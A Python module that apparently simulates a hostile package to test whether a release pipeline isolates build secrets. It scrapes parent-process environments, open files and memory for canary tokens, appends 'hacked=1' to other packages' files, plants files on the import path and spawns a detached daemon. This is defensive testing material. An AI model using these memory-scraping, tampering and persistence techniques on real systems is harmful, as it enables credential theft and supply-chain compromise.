"""What a hostile package does when it is built or imported: looks for tokens, and changes what others will read.

It climbs from its own process to the release's and no further, and otherwise goes to the places that targets.json names. What it
finds it leaves in the folder "drop", and tells whoever runs it. A daemon of it goes on when its parent has ended.
"""
import glob
import json
import os
import re
import resource
import socket
import stat
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(HERE, "targets.json")) as stream:
    TARGETS = json.load(stream)
TOKEN = re.compile(rb"canary-[a-z]+-token|rehearsal-commit-pat|pypi-rehearsal-token|rehearsal-github-token")
RELEASE = (b"ai.vantage6.release.Main", b"release-action.jar")
MOST = 64 << 20
SECONDS_OF_A_DAEMON = 60


def tokens(data):
    return {found.decode() for found in TOKEN.findall(data)}


def read(path):
    """Of a pipe nobody would see the end."""
    if not stat.S_ISREG(os.stat(path).st_mode):
        return b""
    with open(path, "rb") as file:
        return file.read(1 << 20)


def chain():
    """The processes from this one's parent to the release's own."""
    pid = os.getpid()
    while pid > 1:
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rpartition(")")[2].split()[1])
        yield pid
        with open(f"/proc/{pid}/cmdline", "rb") as file:
            if any(name in file.read() for name in RELEASE):
                return


def memory(pid):
    found, seen = set(), 0
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in reversed(list(maps)):
            span, rights = line.split()[:2]
            start, end = (int(part, 16) for part in span.split("-"))
            if rights.startswith("rw") and seen < MOST:
                try:
                    mem.seek(start)
                    data = mem.read(min(end - start, MOST))
                    seen += len(data)
                    found |= tokens(data)
                except (OSError, ValueError, OverflowError):
                    pass
    return found


def every(paths):
    for path in paths:
        for found in glob.glob(path, recursive=True):
            if os.path.isfile(found):
                yield found


def attempt(action, *arguments):
    try:
        return action(*arguments)
    except (OSError, ValueError):
        return None


def asked(family, address):
    with socket.socket(family) as connection:
        connection.settimeout(2)
        connection.connect(address)
        return tokens(connection.recv(1 << 10))


def append(path):
    with open(path, "ab") as file:
        file.write(b"hacked=1\n")
    return {path}


def others():
    """Where the packages are built, the code of another one, and its home, where a file could configure its build."""
    if os.path.isdir(os.path.join(HERE, "vantage6-common")):
        home = os.environ["HOME"]
        homes = [folder for folder in glob.glob(os.path.join(os.path.dirname(home), "home*")) if folder != home]
        yield from (os.path.join(folder, ".planted") for folder in homes)
        trees = glob.glob(os.path.join(os.path.dirname(HERE), "tree-*", "vantage6-*"))
        yield from (os.path.join(folder, "setup.py") for folder in trees if folder != os.getcwd())


def search(thoroughly):
    """By channel, what is found there or changed."""
    loot = {"variables": tokens(json.dumps(dict(os.environ)).encode())}
    processes = attempt(lambda: list(chain())) or []
    for pid in processes:
        for name in ("environ", "cmdline"):
            loot.setdefault(name, set()).update(attempt(lambda: tokens(read(f"/proc/{pid}/{name}"))) or ())
        if thoroughly:
            loot.setdefault("memory", set()).update(attempt(memory, pid) or ())
        if attempt(resource.prlimit, pid, resource.RLIMIT_CORE, (0, 0)):  # that of processor time would end it
            loot.setdefault("limits", set()).add(str(pid))
        for link in attempt(os.listdir, f"/proc/{pid}/fd") or ():
            loot.setdefault("open files", set()).update(attempt(lambda: tokens(read(f"/proc/{pid}/fd/{link}"))) or ())
    for channel in ("read", "temporary"):
        loot[channel] = set().union(*(attempt(lambda: tokens(read(file))) or () for file in every(TARGETS[channel])))
    for channel in ("write", "output"):
        loot[channel] = set().union(*(attempt(append, file) or () for file in every(TARGETS[channel])))
    for folder in sys.path + TARGETS["plant"]:
        if os.path.isdir(folder) and not folder.startswith(HERE):
            loot.setdefault("plant", set()).update(attempt(append, os.path.join(folder, "planted.py")) or ())
    loot["other packages"] = set().union(*(attempt(append, file) or () for file in others()))
    loot["docker"] = attempt(asked, socket.AF_UNIX, TARGETS["docker"]) or set()
    loot["network"] = attempt(asked, socket.AF_INET, ("127.0.0.1", TARGETS["port"])) or set()
    return {channel: sorted(found) for channel, found in loot.items() if found}


def leave(carrier, loot):
    with open(os.path.join(TARGETS["drop"], carrier + ".json"), "w") as file:
        json.dump(loot, file)


def daemon(carrier):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for stream in (0, 1, 2):
                os.dup2(os.open(os.devnull, os.O_RDWR), stream)
            born, kept = time.monotonic(), {}
            while time.monotonic() - born < SECONDS_OF_A_DAEMON:
                time.sleep(0.2)
                kept.update(attempt(search, False) or {})
                attempt(leave, f"{carrier}-daemon-{os.getpid()}", kept)
        os._exit(0)


def run(carrier):
    daemon(carrier)
    loot = search(True)
    attempt(leave, carrier, loot)
    return f"\n\n{carrier} has found {json.dumps(loot)}\n"
